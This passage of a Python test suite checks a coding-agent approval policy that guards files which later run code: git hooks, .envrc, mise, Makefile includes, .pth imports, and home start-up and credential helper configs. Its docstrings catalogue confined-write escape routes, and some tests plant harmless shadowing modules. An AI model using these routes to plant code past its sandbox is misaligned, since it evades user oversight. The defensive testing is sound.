    the next commit). A path that names no file of the tree is not."""
    from prism.coding.security import _callees

    hooks = root / ".git" / "hooks"
    hooks.mkdir(parents=True)
    (hooks / "pre-commit").write_text(
        '#!/bin/sh\n"$(realpath .)/scripts/c.sh"\n'
        '"$(git rev-parse --git-common-dir)/../scripts/f.sh"\n"${PWD%/}/scripts/h.sh"\n'
        '"$(cd "$(dirname "$0")"; cd ../..; pwd)/scripts/i.sh"\n"$(realpath .)/scripts/none.sh"\n'
    )
    (root / "scripts").mkdir()
    for name in "cfhi":
        (root / "scripts" / f"{name}.sh").write_text("true\n")
    top = str(root)
    found = set(_callees.hook_callees(top, [str(hooks)], top, []))
    expected = {f"scripts/{n}.sh" for n in "cfhi"}
    assert expected <= found, expected - found
    assert "scripts/none.sh" not in found


def test_pyproject_scripts_tox_top_and_lefthook_extends_are_followed(root: Path) -> None:
    """`hatch run`, `pdm run`/`pdm NAME` and `rye run` run pyproject.toml's named scripts
    (pdm's cmd, composite and call forms too): pyproject.toml and what they run are
    kept; tox's `{toxinidir}` and `{tox_root}` are the top; lefthook's `extends` files
    (globs too) are read as configurations and its `source_dir` kept. Each came back
    from a confined rewrite and ran at the next commit."""
    from prism.coding.security import _callees

    hooks = root / ".git" / "hooks"
    hooks.mkdir(parents=True)
    (hooks / "pre-commit").write_text(
        "#!/bin/sh\ntox -e lint\nhatch run lint:test\npdm run check\npdm both\nrye run fmt\n"
        'lefthook run pre-commit "$@"\n'
    )
    (root / "tox.ini").write_text(
        "[testenv:lint]\ncommands =\n    {toxinidir}/scripts/tox2.sh\n"
        "    {tox_root}/scripts/tox3.sh\n"
    )
    (root / "pyproject.toml").write_text(
        '[tool.hatch.envs.lint.scripts]\ntest = ["python scripts/h.py", "ruff check", "more"]\n'
        'more = "sh scripts/h2.sh"\n'
        '[tool.pdm.scripts]\ncheck = {cmd = ["python", "scripts/pdm.py"]}\n'
        'both = {composite = ["check", "called"]}\ncalled = {call = "tools.mod:main"}\n'
        '[tool.rye.scripts]\nfmt = "python scripts/rye.py"\n'
    )
    (root / "lefthook.yml").write_text(
        "extends:\n  - ci/lefthook-extra.yml\n  - 'more/*.yml'\nsource_dir: .hooks-src/\n"
        "pre-commit:\n  scripts:\n    check.sh:\n      runner: bash\n"
    )
    for name in ("ci", "more"):
        (root / name).mkdir()
    extra = "pre-commit:\n  commands:\n    x:\n      run: ./ci/{}.sh\n"
    (root / "ci" / "lefthook-extra.yml").write_text(extra.format("x"))
    (root / "more" / "b.yml").write_text(extra.format("y"))
    top = str(root)
    found = set(_callees.hook_callees(top, [str(hooks)], top, []))
    expected = {
        "scripts/tox2.sh", "scripts/tox3.sh", "scripts/h.py", "scripts/h2.sh", "scripts/pdm.py",
        "scripts/rye.py",
        "tools/mod.py", "pyproject.toml", "ci/lefthook-extra.yml", "more/b.yml", "ci/x.sh",
        "ci/y.sh", ".hooks-src",
    }  # fmt: skip
    assert expected <= found, expected - found


def test_lint_staged_js_paths_from_its_own_directory_are_followed(root: Path) -> None:
    """lint-staged's JavaScript configuration: `${__dirname}` and `${process.cwd()}` in a
    template literal, path.join(__dirname, ...) of literals, and a literal naming a file
    of the tree are the callees they spell (a rewrite of each ran at the next commit)."""
    from prism.coding.security import _callees

    (root / "scripts").mkdir()
    for name in ("a.js", "b.js", "c.js", "d.sh"):
        (root / "scripts" / name).write_text("1\n")
    (root / "lint-staged.config.js").write_text(
        "const path = require('path');\nmodule.exports = {\n"
        '  "*.js": (f) => `node ${__dirname}/scripts/a.js ${f.join(" ")}`,\n'
        '  "*.ts": () => `node ${path.join(__dirname, "scripts", "b.js")}`,\n'
        '  "*.md": () => "node " + "./scripts/c.js",\n'
        '  "*.py": () => `${process.cwd()}/scripts/d.sh`,\n};\n'
    )
    top = str(root)
    found = set(_callees.hook_callees(top, [], top, []))
    expected = {"scripts/a.js", "scripts/b.js", "scripts/c.js", "scripts/d.sh"}
    assert expected <= found, expected - found


def test_what_tool_configurations_load_on_every_command_is_protected(root: Path) -> None:
    """`.npmrc`'s node-options (`--require`, `--import`) and script-shell, bunfig.toml's
    preload, cargo's rustc-wrapper, linker and runner, a JVM agent of
    gradle.properties: each kept (npm's next script run loaded a rewritten hook.js);
    gradle.properties itself asks."""
    from prism.coding.security import _callees

    (root / ".npmrc").write_text(
        "node-options=--require ./hook.js --import=./lib/imp.mjs\nscript-shell=./sh-x\n"
    )
    (root / "bunfig.toml").write_text(
        'preload = ["./preload.ts"]\n[test]\npreload = "./t/setup.ts"\n'
    )
    (root / ".cargo").mkdir()
    (root / ".cargo" / "config.toml").write_text(
        '[build]\nrustc-wrapper = "./tools/wrap.sh"\n[target.x86_64-unknown-linux-gnu]\n'
        'linker = "tools/ld.sh"\nrunner = ["./tools/run.sh", "--arg"]\n'
    )
    (root / "gradle.properties").write_text("org.gradle.jvmargs=-Xmx2g -javaagent:./agent.jar=x\n")
    top = str(root)
    found = set(_callees.hook_callees(top, [], top, []))
    expected = {
        "hook.js", "lib/imp.mjs", "sh-x", "preload.ts", "t/setup.ts", "tools/wrap.sh",
        "tools/ld.sh", "tools/run.sh", "agent.jar",
    }  # fmt: skip
    assert expected <= found, expected - found
    policy = create_coding_approval_policy(roots=[str(root)])
    action = ExecutionAction(kind="write", operation="write", paths=("gradle.properties",))
    decision = policy.check(action)
    assert isinstance(decision, ExecutionDecision)
    assert not decision.allowed


def test_what_a_mise_configuration_runs_is_protected(root: Path) -> None:
    """mise's configuration: its `[env]` `_.source` scripts, `_.path` directories and
    `_.file` files, a tool's `virtualenv`, and the scripts its `[hooks]` run
    (`{{config_root}}` is the top): each asks (each came back from a confined rewrite
    and ran in the user's shell at the next `cd`). An ordinary file stays writable."""
    (root / "mise.toml").write_text(
        '[env]\n_.source = "./scripts/env.sh"\n_.path = ["./tools/path", "{{config_root}}/bin2"]\n'
        '_.file = ".env.json"\n[tools]\npython = {version = "3.12", virtualenv = ".venv2"}\n'
        '[hooks]\nenter = "./scripts/enter.sh"\ncd = {script = "bash scripts/cd.sh"}\n'
    )
    (root / "scripts").mkdir()
    (root / "scripts" / "cd.sh").write_text("true\n")
    policy = create_coding_approval_policy(roots=[str(root)])
    asks = [
        "scripts/env.sh", "tools/path/vim", "bin2/git", ".env.json", ".venv2/bin/python",
        "scripts/enter.sh", "scripts/cd.sh",
    ]  # fmt: skip
    for path in [*asks, "scripts/other.sh"]:
        action = ExecutionAction(kind="write", operation="write", paths=(path,))
        decision = policy.check(action)
        assert isinstance(decision, ExecutionDecision)
        assert decision.allowed is (path == "scripts/other.sh"), path


def test_more_home_start_up_code_is_protected(root: Path) -> None:
    """The home's tool files that run code at a program's start (pylint's init-hook,
    Jupyter's and Julia's start-up code, Mercurial's hooks, sbt's global plugins, Zed's
    and Helix's language servers, husky 9's init.sh before every hook, pre-commit's
    cached hooks, Neovim's plugins, terraform's and tmux's plugins, ...): each asks
    (each came back from a confined write; the user's next pylint ran a planted hook,
    the next commit in a husky repository the planted init.sh)."""
    policy = create_coding_approval_policy(roots=[str(root)])
    asks = [
        ".pylintrc", ".config/pylintrc", ".jupyter/jupyter_server_config.py",
        ".julia/config/startup.jl", ".hgrc", ".config/hg/hgrc", ".sbt/1.0/plugins/p.sbt",
        ".sbt/1.0/global.sbt", ".config/zed/settings.json", ".config/zed/tasks.json",
        ".config/helix/languages.toml", ".ghci", ".selected_editor", ".octaverc", ".perldb",
        ".guile", ".sbclrc", ".mkshrc", ".mailcap", ".muttrc", ".procmailrc", ".forward",
        ".config/bat/config", ".config/matplotlib/matplotlibrc", ".m2/settings.xml",
        ".config/uv/uv.toml", ".opam/config", ".config/pulse/default.pa", ".xbindkeysrc",
        ".config/husky/init.sh", ".cache/pre-commit/repoabc/hooks/check.sh",
        ".local/share/nvim/site/pack/x/start/y/plugin/z.lua",
        ".local/share/nvim/lazy/x/plugin/x.lua", ".terraform.d/plugins/x",
        ".tmux/plugins/tpm/tpm",
    ]  # fmt: skip
    writable = [".m2/repository/a.jar", ".julia/packages/x.jl", ".cache/pip/x", "sbt/x.sbt"]
    for path in asks + writable:
        decision = policy.check(ExecutionAction(kind="write", operation="write", paths=(path,)))
        assert isinstance(decision, ExecutionDecision)
        assert decision.allowed is (path in writable), (path, decision)


def test_what_pth_files_import_and_gits_own_programs_on_path_ask(
    root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A PYTHONPATH directory in a root: the modules site-packages' ``.pth`` files import at
    every interpreter start (setuptools' ``_distutils_hack``, virtualenv's ``_virtualenv``,
    and what this interpreter's own ``.pth`` files import) ask: each precedes site-packages
    (a planted ``src/_distutils_hack.py`` ran in the user's next ``python3 -c pass``).
    With ``.`` on PATH, the programs git itself runs through PATH (its editor, pager,
    git-lfs, credential helpers, gpg) ask at any depth (a planted ``editor`` ran at the
    user's next ``git commit``)."""
    from prism.coding.security import _pymodules

    monkeypatch.setenv("PYTHONPATH", f"{root}/src")
    monkeypatch.setenv("PATH", os.pathsep.join([".", os.environ["PATH"]]))
    policy = create_coding_approval_policy(roots=[str(root)])
    imported = [name for name in _pymodules.pth_modules() if name not in sys.stdlib_module_names]
    asked = ["src/_distutils_hack.py", "src/_distutils_hack/__init__.py", "src/_virtualenv.py",
             *(f"src/{name}.py" for name in imported), "editor", "sub/vi", "less", "pager",
             "git-lfs", "x/git-credential-store", "gpg", "ssh-keygen"]  # fmt: skip
    for name in [*asked, "src/app.py", "docs/git-guide.md", "editors/x"]:
        decision = policy.check(ExecutionAction(kind="write", operation="write", paths=(name,)))
        assert isinstance(decision, ExecutionDecision)
        assert decision.allowed is (name not in asked), name


def test_the_modules_pth_files_import_are_read() -> None:
    """Every module a ``.pth`` line imports (``import a, b.c``, ``__import__('d')``,
    ``importlib.import_module("e")``) is found; other lines are path entries, not read."""
    from prism.coding.security import _pymodules

    line = "import a, b.c; __import__('d'); importlib.import_module(\"e\")"
    assert _pymodules.pth_line_modules(line) == ["a", "b", "d", "e"]
    assert _pymodules.pth_line_modules("./src  # import x") == []


def test_what_the_search_variables_an_envrc_exports_name_is_protected(root: Path) -> None:
    """An `.envrc` exporting PYTHONPATH=$PWD/src (the src layout's line), LD_PRELOAD,
    BASH_ENV, a search directory and NODE_OPTIONS=--require: what each names runs in the
    user's programs after direnv loads it (a planted src/re.py ran in every python3).
    The source directory itself stays writable but for what shadows the standard
    library."""
    _write_files(
        root,
        {
            ".envrc": 'export PYTHONPATH=$PWD/src\nexport LD_PRELOAD="lib/a.so lib/b.so"\n'
            "export BASH_ENV=./k1.sh\nexport NODE_PATH=$PWD/nm\n"
            'export NODE_OPTIONS="--require ./l1.js --import=./l2.mjs"\n',
        },
    )
    found = set(implied_protected(str(root), ProtectedPaths(PROTECTED_PATHS)))
    expected = {"src/re.py", "src/json", "lib/a.so", "lib/b.so", "k1.sh", "nm", "l1.js", "l2.mjs"}
    assert expected <= found, expected - found
    assert not {"src", "src/app.py"} & found


def test_what_the_homes_configurations_name_and_more_sourcing_spellings_ask(
    root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With the home in a root (no repository there): what ``~/.gitconfig`` includes and
    its hooks directory (a planted include and hook ran at the user's next git status and
    commit in any repository), what ``~/.tmux.conf`` runs and sources, kubectl's exec
    plugin, the AWS tools' credential_process, docker's plugin directories and ssh's
    ProxyCommand ask; so do files the start-up files source next to themselves
    (``$(dirname "${BASH_SOURCE[0]}")``), through ``eval "$(cat F)"`` or
    ``source <(cat F)``, and a glob's directory after ``.`` (each ran in the user's next
    interactive bash)."""
    home = root / "me"
    _write_files(
        home,
        {
            ".gitconfig": "[include]\n\tpath = ~/.gitconfig.local\n"
            "[core]\n\thooksPath = ~/.githooks\n",
            ".tmux.conf": "run '~/.tmux/plugins/tpm/tpm'\nrun-shell ~/.tmux/scripts/status.sh\n"
            "source-file ~/.tmux/extra.conf\n",
            ".tmux/extra.conf": "run-shell -b ~/.tmux/scripts/more.sh\n",
            ".kube/config": "users:\n- name: u\n  user:\n    exec:\n"
            f"      command: {home}/k/auth.sh\n",
            ".aws/config": f"[default]\ncredential_process = {home}/a/cred.sh --x\n",
            ".docker/config.json": f'{{"cliPluginsExtraDirs": ["{home}/dp"]}}',
            ".ssh/config": "Host *\n  ProxyCommand ~/bin-x/proxy.sh %h\n",
            ".bashrc": 'source "$(dirname "${BASH_SOURCE[0]}")/.aliases.sh"\n'
            'eval "$(cat ~/.prompt.sh)"\nsource <(cat ~/.completion.sh)\n. ~/.bash.d/*.sh\n',
        },
    )
    monkeypatch.setenv("HOME", str(home))
    asked = [
        "me/.gitconfig.local", "me/.githooks/pre-commit", "me/.tmux/plugins/tpm/tpm",
        "me/.tmux/scripts/status.sh", "me/.tmux/extra.conf", "me/.tmux/scripts/more.sh",
        "me/k/auth.sh", "me/a/cred.sh", "me/dp/docker-x", "me/bin-x/proxy.sh",
        "me/.aliases.sh", "me/.prompt.sh", "me/.completion.sh", "me/.bash.d/00.sh",
    ]  # fmt: skip
    policy = create_coding_approval_policy(roots=[str(root)])
    for path in [*asked, "me/notes.txt", "me/.tmux/notes.txt", "me/a/other.sh"]:
        decision = policy.check(ExecutionAction(kind="write", operation="write", paths=(path,)))
        assert isinstance(decision, ExecutionDecision)
        assert decision.allowed is (path not in asked), path


def test_home_entries_the_xdg_variables_move_and_inputrc_includes_ask(
    root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """husky's init.sh, pre-commit's hook checkouts and Neovim's plugins where the XDG
    variables (and ``PRE_COMMIT_HOME``) put them in a root ask, as their home entries do;
    so do a file ``~/.inputrc`` includes and zinit's plugins."""
    home = root / "me"
    _write_files(home, {".inputrc": "$include ~/.inputrc.local\nset bell-style none\n"})
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("XDG_CONFIG_HOME", f"{root}/cfg")
    monkeypatch.setenv("XDG_DATA_HOME", f"{root}/data")
    monkeypatch.setenv("PRE_COMMIT_HOME", f"{root}/pc")
    asked = [
        "cfg/husky/init.sh",
        "data/nvim/site/pack/x/start/y.lua",
        "data/nvim/lazy/x.lua",
        "pc/repoabc/hook.sh",
        "me/.inputrc.local",
        "me/.local/share/zinit/plugins/x/y.zsh",
    ]
    policy = create_coding_approval_policy(roots=[str(root)])
    for path in [*asked, "cfg/other/x", "data/other.txt", "me/notes.txt"]:
        decision = policy.check(ExecutionAction(kind="write", operation="write", paths=(path,)))
        assert isinstance(decision, ExecutionDecision)
        assert decision.allowed is (path not in asked), path


def test_an_anchored_pattern_covers_what_it_matches_and_a_literal_name_itself() -> None:
    """An anchored entry's component may be a pattern: it covers the names it matches and
    what lies below them, and a link on the way to one leads in; a name that holds a
    pattern's characters (a directory called ``[a]``) is still covered as written."""
    from prism.coding.security._protected import AnchoredPaths

    anchored = AnchoredPaths(["mk/*.mk", "[a]/x.sh", "*.Run", "tools/bin"])
    for path in ["mk/extra.mk", "MK/Extra.MK", "[a]/x.sh", "a/x.sh", "z.run", "tools/bin/t"]:
        assert anchored.covers(fold_parts(path.split("/"))) is not None, path
    for path in ["mk/notes.txt", "mk", "sub/mk/x.mk", "b/x.sh", "tools", "tools/lib"]:
        assert anchored.covers(fold_parts(path.split("/"))) is None, path
    assert anchored.leads_to(("mk",))
    assert anchored.leads_to(("mk", "a.mk"))
    assert not anchored.leads_to(("src",))


def test_a_hooks_makefile_including_by_pattern_protects_the_pattern(root: Path) -> None:
    """`include mk/*.mk`, `-include conf.d/*.mk` and `include $(wildcard $(DIR)/*.make)`
    in the makefile a hook's `make` reads: every path each pattern matches asks, the files
    a command makes later included (a new mk/extra.mk came back and ran at the user's next
    commit), and what an existing match includes in turn; other files there do not."""
    _git("init", "-q", str(root))
    (root / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\nmake lint\n")
    _write_files(
        root,
        {
            "Makefile": "DIR = lib\ninclude mk/*.mk\n-include conf.d/*.mk\n"
            "include $(wildcard $(DIR)/*.make)\ninclude $(sort $(wildcard rules/*.mk))\n"
            "lint:\n\t@echo ok\n",
            "mk/base.mk": "sinclude mk/nested/*.mk\n",
        },
    )
    policy = create_coding_approval_policy(roots=[str(root)])
    asked = ["mk/extra.mk", "mk/base.mk", "MK/New.mk", "conf.d/x.mk", "lib/a.make",
             "mk/nested/q.mk", "rules/r.mk"]  # fmt: skip
    for path in [*asked, "mk/notes.txt", "lib/x.c", "conf.d/readme", "src/a.mk"]:
        decision = policy.check(ExecutionAction(kind="write", operation="write", paths=(path,)))
        assert isinstance(decision, ExecutionDecision)
        assert decision.allowed is (path not in asked), path


def test_a_hooks_loop_over_a_pattern_and_run_parts_protect_what_they_run(root: Path) -> None:
    """A hook's `for f in hooks.d/*.sh; do sh "$f"; done`, a loop over a list of files
    (its body on lines of its own), and `run-parts ci/checks`: what each runs asks, the
    callees a command adds included (an existing callee rewritten, a new one added and a
    new run-parts entry each came back and ran at the user's next commit). A loop over
    a list made at run time binds nothing: a program it runs below a directory (`sh
    "gen/$z"`) makes that directory's every file ask; other files stay writable."""
    _git("init", "-q", str(root))
    (root / ".git" / "hooks" / "pre-commit").write_text(
        '#!/bin/sh\nfor f in hooks.d/*.sh; do sh "$f"; done\nrun-parts --report ci/checks\n'
        'for x in tools/a.sh "tools/b.sh"\ndo\n  "${x}" --fast\ndone\n'
        'for y in $(ls lib); do echo "$y"; done\nfor z in $(ls gen); do sh "gen/$z"; done\n'
    )
    _write_files(root, {"hooks.d/base.sh": "sh ./more/x.sh\n", "ci/checks/a": "", "lib/l": ""})
    policy = create_coding_approval_policy(roots=[str(root)])
    asked = ["hooks.d/zz.sh", "hooks.d/base.sh", "more/x.sh", "ci/checks/b", "ci/checks/a",
             "tools/a.sh", "tools/b.sh", "gen/any", "gen/d/x"]  # fmt: skip
    for path in [*asked, "tools/c.sh", "hooks.d/readme", "ci/notes", "lib/l", "lib/m"]:
        decision = policy.check(ExecutionAction(kind="write", operation="write", paths=(path,)))
        assert isinstance(decision, ExecutionDecision)
        assert decision.allowed is (path not in asked), path


def test_an_envrc_sourcing_a_pattern_or_a_loop_over_one_protects_it(root: Path) -> None:
    """An `.envrc`'s `for f in scripts/env/*.sh; do source "$f"; done` and
    `source env.d/*.sh`: every file each pattern matches asks, existing and new (each
    came back from a plain redirect and ran at the user's next `cd` with direnv), and
    what a match sources in turn; other files there stay writable."""
    _write_files(
        root,
        {
            ".envrc": 'for f in scripts/env/*.sh; do source "$f"; done\nsource env.d/*.sh\n',
            "scripts/env/base.sh": "",
            "env.d/a.sh": "source ./more.sh\n",
        },
    )
    found = set(implied_protected(str(root), ProtectedPaths(PROTECTED_PATHS)))
    assert {"scripts/env/*.sh", "env.d/*.sh", "env.d/more.sh"} <= found, found
    policy = create_coding_approval_policy(roots=[str(root)])
    asked = ["scripts/env/zz.sh", "scripts/env/base.sh", "env.d/0.sh", "env.d/more.sh"]
    matcher = ProtectedPaths(PROTECTED_PATHS)
    for path in [*asked, "scripts/x.txt", "scripts/env/readme", "env.d/notes"]:
        decision = policy.check(ExecutionAction(kind="write", operation="write", paths=(path,)))
        assert isinstance(decision, ExecutionDecision)
        assert decision.allowed is (path not in asked), path
        # the host-opened redirect (`echo x > env.d/0.sh`) refuses the same
        request = RedirectedWrites(command=":", targets=((4, f"{root}/{path}", False),))
        opened = open_targets(request, [str(root)], matcher, PROTECTED_PATHS)
        assert (opened is None) is (path in asked), path
        if opened is not None:
            close_targets(opened, failed=True)


def test_an_anchored_double_star_matches_any_depth() -> None:
    """An entry's first ``**`` matches any number of components (what ``find DIR -name P
    -exec`` runs): ``tools/**/*.sh`` covers ``tools/x.sh`` and ``tools/a/b/y.sh``, and
    what lies below them, not ``tools/x.py``; ``ci/**`` covers all of ``ci``."""
    from prism.coding.security._protected import AnchoredPaths

    anchored = AnchoredPaths(["tools/**/*.sh", "ci/**", "**/run.py"])
    for path in ["tools/x.sh", "tools/a/b/y.sh", "tools/a.sh/z", "ci", "ci/a/b", "run.py",
                 "a/b/run.py"]:  # fmt: skip
        assert anchored.covers(fold_parts(path.split("/"))) is not None, path
    for path in ["tools/x.py", "tools", "src/x.sh", "cx/a", "run.pyc"]:
        assert anchored.covers(fold_parts(path.split("/"))) is None, path
    assert anchored.leads_to(("tools", "a", "b"))
    assert not AnchoredPaths(["tools/**/*.sh"]).leads_to(("src",))


def test_what_a_hooks_find_exec_and_xargs_run_is_protected(root: Path) -> None:
    """A hook's `find tools -name '*.sh' -exec sh {} \\;` and `find -L checks -type f
    -exec {} +` run every file they find, at any depth, now or later: each asks; so does
    what `ls hooks.d/*.sh | xargs -n1 sh` runs. What `find . -name '*.py' -exec black
    {} +` only reads stays writable."""
    _git("init", "-q", str(root))
    (root / ".git" / "hooks" / "pre-commit").write_text(
        "#!/bin/sh\nfind tools -name '*.sh' -exec sh {} \\;\nfind -L checks -type f -exec {} +\n"
        "ls hooks.d/*.sh | xargs -n1 sh\nfind . -name '*.py' -exec black {} +\n"
    )
    policy = create_coding_approval_policy(roots=[str(root)])
    asked = ["tools/a.sh", "tools/sub/deep/b.sh", "checks/a", "checks/d/e", "hooks.d/z.sh"]
    for path in [*asked, "tools/x.py", "hooks.d/notes.txt", "src/a.py", "a.sh"]:
        decision = policy.check(ExecutionAction(kind="write", operation="write", paths=(path,)))
        assert isinstance(decision, ExecutionDecision)
        assert decision.allowed is (path not in asked), path


# what a hook, a hook's makefile or an .envrc runs from a listing, a list file or find:
# (where the text goes, the text)
_LISTED_RUNS = [
    ("hook", 'for f in $(ls d/*.sh); do sh "$f"; done'),
    ("hook", 'for f in `ls d`; do sh "d/$f"; done'),
    ("hook", 'for f in $(ls d); do sh "$f"; done'),
    ("hook", 'for f in $(find d -name "*.sh" | sort); do bash "$f"; done'),
    ("hook", 'for f in $(cat list); do sh "$f"; done'),
    ("hook", 'while read -r f; do . "./$f"; done < list'),
    ("hook", 'cat list | while read -r f; do sh "$f"; done'),
    ("hook", 'ls d/*.sh | while IFS= read -r f\ndo\n  sh "$f"\ndone'),
    ("hook", 'while read -r f; do sh "$f"; done < <(find d -name "*.sh")'),
    ("hook", "find d -name a.sh -o -name b.sh -exec sh {} \\;"),
    ("hook", "find d \\( -name a.sh -o -name '*.run' \\) -exec sh {} \\;"),
    ("hook", "find . -path ./t -prune -o -name '*.sh' -exec sh {} \\;"),
    ("hook", 'set -- d/*.sh; for f; do sh "$f"; done'),
    ("hook", 'set -- d/a.sh d/b.sh\nfor f in "$@"; do sh "$f"; done'),
    ("hook", "git -c alias.z='!sh d/a.sh' z"),
    ("hook", "pushd d >/dev/null; sh a.sh"),
    ("hook", "env -C d sh b.sh"),
    ("hook", "sh -c 'cd d && sh a.sh'"),
    ("make", 'for f in $$(ls d/*.sh); do sh "$$f"; done'),
    ("make", "while read f; do sh $$f; done < list"),
    ("envrc", 'for f in $(ls d); do source "d/$f"; done'),
    ("envrc", 'while read -r f; do . "./$f"; done < list'),
    ("envrc", "find d -name a.sh -o -name b.sh -exec bash {} \\;"),
]
# the files each shape may run, and one it never runs
_LISTED_TREE = ["d/a.sh", "d/b.sh", "d/c.txt", "d/x/a.sh", "t/a.sh", "a.sh", "src/x.py"]
# what a command writes to have its own code run: new callees, callees rewritten, the list
_LISTED_WRITES = ["d/new.sh", "d/b.sh", "d/x/new.sh", "d/new.run", "d/zz", "new.sh", "t/a.sh",
                  "a.sh", "list", "evil.sh", "src/x.py"]  # fmt: skip


@pytest.mark.parametrize(("kind", "text"), _LISTED_RUNS)
def test_what_a_loop_over_a_listing_or_a_list_runs_is_protected(
    root: Path, kind: str, text: str
) -> None:
    """A hook, a hook's makefile or an `.envrc` running files named by a listing (`for f
    in $(ls d)`, `$(find ...)`, `ls d/*.sh | while read f`), a list file (`while read f;
    do . "$f"; done < list`, `$(cat list)`) or `find` with several `-name`s: real bash
    (make) runs it after a command wrote every path the policy lets it write (new files
    in the listed directory, a callee rewritten, a line added to the list), and every
    file that ran was one the policy asks for."""
    _git("init", "-q", str(root))
    ran = root.parent / "ran"
    files = {path: f'echo {path} >> "$RAN"\n' for path in _LISTED_TREE}
    files["list"] = "t/a.sh\n"
    if kind == "hook":
        files[".git/hooks/pre-commit"] = f"#!/bin/bash\n{text}\n"
    elif kind == "make":
        files[".git/hooks/pre-commit"] = "#!/bin/sh\nmake -s lint\n"
        files["Makefile"] = f"lint:\n\t@{text}\n"
    else:
        files[".envrc"] = f"{text}\n"
    _write_files(root, files)
    policy = create_coding_approval_policy(roots=[str(root)])
    asked: set[str] = set()
    for path in [*_LISTED_TREE, *_LISTED_WRITES]:
        decision = policy.check(ExecutionAction(kind="write", operation="write", paths=(path,)))
        assert isinstance(decision, ExecutionDecision)
        if not decision.allowed:
            asked.add(path)
    for path in _LISTED_WRITES:  # (the command's writes: only what the policy lets it)
        if path not in asked:
            _write_files(root, {path: f'echo {path} >> "$RAN"\n'})
            if path == "list":
                (root / "list").write_text("t/a.sh\nevil.sh\nd/zz\n")
    argv = {"hook": ["bash", ".git/hooks/pre-commit"], "make": ["make", "-s", "lint"],
            "envrc": ["bash", ".envrc"]}[kind]  # fmt: skip
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "RAN": str(ran), "LC_ALL": "C"}
    subprocess.run(argv, cwd=root, env=env, capture_output=True, check=False, timeout=30)
    executed = set(ran.read_text().split()) if ran.exists() else set()
    assert executed, text  # (the shape runs something)
    assert executed <= asked, (text, executed - asked)
    assert "src/x.py" not in asked, text  # (what none of them runs stays writable)


def test_a_loop_over_what_is_not_known_here_protects_everything_it_may_run(root: Path) -> None:
    """A loop whose words come from a command not read here (`$(git ls-files)`) or from
    the hook's own input: a file it runs may be any file, so every write asks; the same
    loops passing their words only as arguments (`git rev-parse "$sha"`) protect
    nothing."""
    _git("init", "-q", str(root))
    hook = root / ".git" / "hooks" / "pre-push"
    policy = create_coding_approval_policy(roots=[str(root)])
    for body, everything in [
        ('for f in $(git ls-files "*.sh"); do sh "$f"; done', True),
        ('while read -r local sha rest; do "$rest"; done', True),
        ('for f in $(git ls-files "*.sh"); do shellcheck "$f"; done', False),
        ('while read -r local sha rest; do git rev-parse "$sha"; done', False),
    ]:
        hook.write_text(f"#!/bin/sh\n{body}\n")
        for path in ["src/x.py", "notes/a.txt"]:
            action = ExecutionAction(kind="write", operation="write", paths=(path,))
            decision = policy.check(action)
            assert isinstance(decision, ExecutionDecision)
            assert decision.allowed is not everything, (body, path)


# Each file Python's import system finds before the module a hook names, or before an
# installed module its program imports: planted beside it, the hook runs the plant.
# (module the hook runs, the planted file, how it is made)
_SHADOWS = [
    ("tools.lint", "tools/lint/__init__.py", "source"),  # a package wins over a module
    ("tools.lint", "tools/__pycache__/lint.{tag}.pyc", "unchecked"),  # never compared
    ("tools.lint", "tools/lint.pyc", "sourceless"),  # (found when lint.py is gone)
    ("tools.lint", "argparse.py", "source"),  # the working directory is searched first
    ("tools.lint", "argparse/__init__.py", "source"),
    ("tools.run", "tools/json.py", "source"),  # a script's own directory is searched first
    ("tools.run", "tools/json.pyc", "sourceless"),
]


def _plant(root: Path, relative: str, marker: str) -> None:
    import py_compile

    path = root / relative.format(tag=sys.implementation.cache_tag)
    path.parent.mkdir(parents=True, exist_ok=True)
    code = f"print({marker!r})\n"
    if relative.endswith(".py"):
        path.write_text(code)
        return
    source = root.parent / "plant.py"
    source.write_text(code)
    py_compile.compile(
        str(source),
        cfile=str(path),
        invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH,
        doraise=True,
    )


@pytest.mark.parametrize(("module", "planted", "how"), _SHADOWS)
def test_what_python_imports_before_a_hooks_module_is_protected(
    root: Path, module: str, planted: str, how: str
) -> None:
    """Differential against the real interpreter: each planted file runs in the hook's
    command (`python3 -m tools.lint`, `python3 tools/run.py`), and each is protected."""
    from prism.coding.security import _callees
    from prism.coding.security._protected import AnchoredPaths

    (root / "tools").mkdir()
    (root / "tools" / "run.py").write_text("import json\nprint('run ok')\n")
    if module == "tools.lint":
        (root / "tools" / "__init__.py").write_text("")
        if how != "sourceless":
            (root / "tools" / "lint.py").write_text("import argparse\nprint('lint ok')\n")
    line = f"{sys.executable} -m tools.lint" if module == "tools.lint" else "python3 tools/run.py"
    hooks = root / ".git" / "hooks"
    hooks.mkdir(parents=True)
    (hooks / "pre-commit").write_text(f"#!/bin/sh\n{line}\n")
    _plant(root, planted, "PLANTED")
    argv = [sys.executable, "-m", "tools.lint"] if module == "tools.lint" else [
        sys.executable, "tools/run.py"]  # fmt: skip
    ran = subprocess.run(argv, cwd=root, capture_output=True, text=True, check=False)
    assert "PLANTED" in ran.stdout, (planted, ran.stdout, ran.stderr)  # the attack is real
    top = str(root)
    anchored = AnchoredPaths(_callees.hook_callees(top, [str(hooks)], top, []))
    relative = planted.format(tag=sys.implementation.cache_tag)
    assert anchored.covers(fold_parts(relative.split("/"))) is not None, relative


def test_what_python_imports_for_an_envrc_or_a_mise_hook_is_protected(root: Path) -> None:
    """The .envrc and mise readers protect what the import system finds first for the
    Python programs they run, as the hook reader does (the package of `-m tools.env`,
    what replaces it, its caches)."""
    (root / "tools").mkdir()
    (root / ".envrc").write_text('eval "$(python3 -m tools.env)"\n')
    (root / "mise.toml").write_text('[hooks]\nenter = "python3 -m jobs.run"\n')
    policy = create_coding_approval_policy(roots=[str(root)])
    tag = sys.implementation.cache_tag
    asked = ["tools/__init__.py", "tools/env/__init__.py", f"tools/__pycache__/env.{tag}.pyc",
             "tools.py", "jobs/run.py", "jobs/__init__.py"]  # fmt: skip
    for name in [*asked, "src/tools/x.py", "src/tools.py"]:
        decision = policy.check(ExecutionAction(kind="write", operation="write", paths=(name,)))
        assert isinstance(decision, ExecutionDecision)
        assert decision.allowed is (name not in asked), name


def test_what_every_configured_command_runs_is_protected(
    root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
